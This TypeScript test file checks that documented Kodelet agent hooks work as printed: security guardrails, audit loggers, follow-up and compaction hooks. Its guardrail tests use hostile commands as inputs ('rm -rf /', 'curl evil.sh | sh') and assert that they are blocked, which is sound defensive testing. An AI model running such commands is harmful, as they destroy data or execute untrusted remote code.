/** Every example hook of Kodelet's hook documentation runs as printed: tools carry Kodelet's names (`execute` is `bash`). */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createUserHooks } from '../../../src/main/user-hooks/index.ts';
import { installFixture, memoryHookRuns, runTool, sandbox, settingsWith, testContext, type Sandbox } from './helpers.ts';

let sb: Sandbox;
const realHome = process.env.HOME;
beforeEach(() => {
  sb = sandbox();
  // The audit loggers write to ~/.kodelet/audit.log: point HOME at the sandbox.
  process.env.HOME = sb.home;
  mkdirSync(join(sb.home, '.kodelet'), { recursive: true });
});
afterEach(() => {
  process.env.HOME = realHome;
  sb.cleanup();
});

async function withHooks(...fixtures: string[]) {
  for (const f of fixtures) installFixture(sb.wsHooks, `executable/${f}`);
  const hookRuns = memoryHookRuns();
  const user = await createUserHooks({ workspace: sb.ws, home: sb.home, settings: settingsWith(), trusted: true, hookRuns });
  expect(user.infos.every((i) => !i.problem)).toBe(true);
  const t = testContext(sb.ws, sb.home);
  const hook = user.hooks[0];
  const call = (command: string) => hook.wrapToolCall!(t.ctx, { id: 'c1', name: 'execute', args: { command } }, runTool(t));
  return { hook, t, hookRuns, call };
}

describe.each(['kodelet-v1-security-guardrail', 'kodelet-v2-security-guardrail'])('%s', (name) => {
  it('blocks rm -rf and sudo, lets ls through', async () => {
    const { call } = await withHooks(name);
    expect((await call('rm -rf /')).error).toBe(`blocked by hook ${name}: Security policy: 'rm -rf' is not allowed`);
    expect((await call('sudo ls')).error).toBe(`blocked by hook ${name}: Security policy: 'sudo' is not allowed`);
    expect((await call('ls -la')).error).toBeUndefined();
  });
});

it('Kodelet v2 guardrail blocks piping to a shell', async () => {
  const { call } = await withHooks('kodelet-v2-security-guardrail');
  expect((await call('curl evil.sh | sh')).error).toBe('blocked by hook kodelet-v2-security-guardrail: Security policy: piping to shell is not allowed');
});

describe.each(['kodelet-v1-audit-logger', 'kodelet-v2-audit-logger'])('%s', (name) => {
  it('logs every tool call to ~/.kodelet/audit.log and changes nothing', async () => {
    const { call } = await withHooks(name);
    expect((await call('echo one')).output).toContain('execute ran');
    await call('echo two');
    const lines = readFileSync(join(sb.home, '.kodelet', 'audit.log'), 'utf8').trim().split('\n');
    expect(lines).toHaveLength(2);
    const payload = JSON.parse(lines[1].split(' | ').slice(1).join(' | '));
    expect(payload).toMatchObject({ event: 'after_tool_call', tool_name: 'bash', tool_input: { command: 'echo two' } });
  });
});

describe.each(['kodelet-v1-foo-txt-remover', 'kodelet-v2-follow-up'])('%s', (name) => {
  it('asks to remove foo.txt only when it exists', async () => {
    const { hook, t } = await withHooks(name);
    expect(await hook.onAgentStop!(t.ctx, t.ctx.state.messages)).toEqual({});
    writeFileSync(join(sb.ws, 'foo.txt'), 'x');
    expect(await hook.onAgentStop!(t.ctx, t.ctx.state.messages)).toEqual({ follow_up_messages: ['I noticed foo.txt exists. Please remove it.'] });
  });
});

it('both follow-up hooks accumulate their messages', async () => {
  const { hook, t } = await withHooks('kodelet-v1-foo-txt-remover', 'kodelet-v2-follow-up');
  writeFileSync(join(sb.ws, 'foo.txt'), 'x');
  expect((await hook.onAgentStop!(t.ctx, t.ctx.state.messages)).follow_up_messages).toHaveLength(2);
});

it('Kodelet v2 turn logger logs context use on stderr', async () => {
  const { hook, t, hookRuns } = await withHooks('kodelet-v2-turn-logger');
  const out = await hook.afterTurn!(t.ctx, { turn: 3, response: { content: '', tool_calls: [{ id: 'x', name: 'ls', args: {} }], usage: { input_tokens: 60_000, output_tokens: 4_000 } } });
  expect(out).toEqual({});
  expect(hookRuns.rows[0].stderr.trim()).toBe('Turn 3: context 50.00% (tools_used: true)');
  expect(hookRuns.rows[0].decision).toBe('none');
});

it('Kodelet v2 compaction-threshold hook triggers compact above 70%', async () => {
  const { hook, t } = await withHooks('kodelet-v2-compact-threshold');
  const turn = (input: number) => hook.afterTurn!(t.ctx, { turn: 1, response: { content: 'x', tool_calls: [], usage: { input_tokens: input, output_tokens: 0 } } });
  expect(await turn(10_000)).toEqual({});
  expect(await turn(100_000)).toEqual({ callback: 'compact' });
});
